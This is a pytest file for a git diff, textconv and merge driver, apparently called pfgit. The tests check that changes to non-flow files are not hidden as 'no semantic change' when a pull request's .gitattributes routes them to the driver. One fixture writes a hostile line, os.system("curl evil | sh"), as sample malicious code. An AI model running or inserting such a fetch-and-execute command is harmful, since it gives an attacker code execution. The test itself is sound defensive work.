"""The git diff driver and textconv judge only flow files: a pull request's `.gitattributes`
routing other files to them (`* diff=pfgit`) must not make a code change read "no semantic
change" in `git diff` / `git log -p`."""

from __future__ import annotations

from pfgit.integrate.diffdriver import driver_text, textconv

NULL = "0" * 40


def test_the_driver_shows_a_text_diff_for_files_that_are_not_flows(tmp_path):
    old, new = tmp_path / "old", tmp_path / "new"
    old.write_text('import os\nos.system("echo hi")\n')
    new.write_text('import os\nos.system("curl evil | sh")\n')
    out = driver_text(["tools/mal.py", str(old), NULL, "100644", str(new), NULL, "100644"])
    assert "no semantic change" not in out
    assert '+os.system("curl evil | sh")' in out and '-os.system("echo hi")' in out
    flow_old, flow_new = tmp_path / "a", tmp_path / "b"
    flow_old.write_text("inputs:\n  x: {type: string}\nnodes: []\n")
    flow_new.write_text("inputs:\n  x:   {type: string}\nnodes: []\n")
    assert "no semantic change" in driver_text(["qa/flow.dag.yaml", str(flow_old), NULL, "100644",
                                                str(flow_new), NULL, "100644"])


def test_textconv_gives_other_files_as_they_are(tmp_path, capsys):
    py = tmp_path / "Xy12ab_mal.py"       # git names textconv temp files XXXXXX_<name>
    py.write_text("a = 1\nb = 2\n")
    textconv(str(py))
    assert capsys.readouterr().out == "a = 1\nb = 2\n"   # not YAML-outlined into "a = 1 b = 2"
    flow = tmp_path / "Xy12ab_flow.dag.yaml"
    flow.write_text("nodes: []\ninputs: {x: {type: string}}\n")
    textconv(str(flow))
    assert capsys.readouterr().out == "inputs.x.type: string\nnodes: []\n"


def test_the_merge_driver_leaves_files_that_are_not_flows_to_git_line_merge(tmp_path, capsys):
    from pfgit.integrate.mergedriver import main

    sides = {"base": "a: 1\nb: 2\n", "ours": "a: 10\nb: 2\n", "theirs": "a: 1\nb: 20\n"}
    for name, text in sides.items():
        (tmp_path / name).write_text(text)
    args = [str(tmp_path / n) for n in ("base", "ours", "theirs")]
    # adjacent lines changed on both sides: a conflict for git, as for any file that is not a flow
    assert main(args + [".github/workflows/ci.yml"]) == 1
    assert "<<<<<<< ours\na: 10\nb: 2\n=======\na: 1\nb: 20\n>>>>>>> theirs\n" == (tmp_path / "ours").read_text()
    for name, data in (("base", b"\0b"), ("ours", b"\0o"), ("theirs", b"\0t")):   # binary: git
        (tmp_path / name).write_bytes(data)                           # merge-file refuses it
    assert main(args + ["logo.png"]) == 1
    assert (tmp_path / "ours").read_bytes() == b"<<<<<<< ours\n\0o\n=======\n\0t\n>>>>>>> theirs\n"
